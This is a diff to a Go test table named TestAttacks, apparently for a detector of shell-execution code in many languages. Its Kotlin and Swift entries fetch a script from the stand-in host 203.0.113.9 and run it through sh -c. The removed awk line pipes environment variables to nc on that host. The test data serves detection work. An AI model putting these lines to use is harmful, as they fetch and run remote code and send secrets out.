@@ -114,7 +114,6 @@ func TestAttacks(t *testing.T) {
 		{"kt", "val x = URL(\"http://203.0.113.9/x\").readText()\nRuntime.getRuntime().exec(arrayOf(\"sh\", \"-c\", x))", "run network ip shell"},
 		{"groovy", "def p = \"SH\".execute()", "sh: SH"},
 		{"swift", "let u = URL(string: \"http://203.0.113.9/x\")!\nlet s = try String(contentsOf: u)\nlet p = Process()\np.executableURL = URL(fileURLWithPath: \"/bin/sh\")\np.arguments = [\"-c\", s]\ntry p.run()", "run network ip shell"},
-		{"awk", "BEGIN { while ((\"env\" | getline l) > 0) print l | \"nc 203.0.113.9 99\" }", "nc 203.0.113.9 99"},
 		{"jl", "run(`sh -c 'SH'`)", "SH"},
 		{"ex", "System.cmd(\"sh\", [\"-c\", \"SH\"])", "sh: sh -c 'SH'"},
 		{"dart", "await Process.run('sh', ['-c', 'SH']);", "sh: sh -c 'SH'"},
